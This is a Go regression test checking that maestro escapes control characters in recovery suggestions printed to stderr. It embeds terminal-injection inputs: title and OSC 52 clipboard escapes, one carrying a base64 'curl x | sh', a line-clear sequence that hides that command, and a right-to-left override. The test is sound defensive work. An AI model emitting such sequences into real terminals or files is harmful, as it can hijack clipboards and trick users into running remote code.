package recovery_test

import (
	"strings"
	"testing"

	"github.com/maestro-recovery/maestro/catalog"
	"github.com/maestro-recovery/maestro/recovery"
)

// Issue 7, point 4: --on-failure suggest printed a configuration's
// approaches raw to stderr, so a recovery.toml could write the clipboard
// (OSC 52) or retitle the terminal of whoever ran maestro.
func TestChainSuggestShowsControlCharacters(t *testing.T) {
	t.Parallel()
	in := failedRun(t, defaultConfig(t))
	in.Classification = &catalog.Classification{FailureType: "test_failure", ExitCode: 1, Approaches: []catalog.Approach{{
		Name:                  "evil\x1b]0;title\x07",
		Description:           "copy \x1b]52;c;Y3VybCB4IHwgc2g=\x07 this",
		ImplementationPattern: "run\r\x1b[2Kcurl x | sh\u202e",
	}}}
	var progress strings.Builder
	in.Progress = &progress
	recovery.Chain(recovery.Policy{Suggest: true}, in)
	out := progress.String()
	if strings.ContainsAny(out, "\x1b\x07\r\u202e") {
		t.Errorf("raw control characters on stderr: %q", out)
	}
	for _, want := range []string{`evil\e]0;title\x07: copy \e]52;c;Y3VybCB4IHwgc2g=\x07 this`, `how: run\r\e[2Kcurl x | sh\u202e`} {
		if !strings.Contains(out, want) {
			t.Errorf("stderr lacks %s:\n%s", want, out)
		}
	}
}
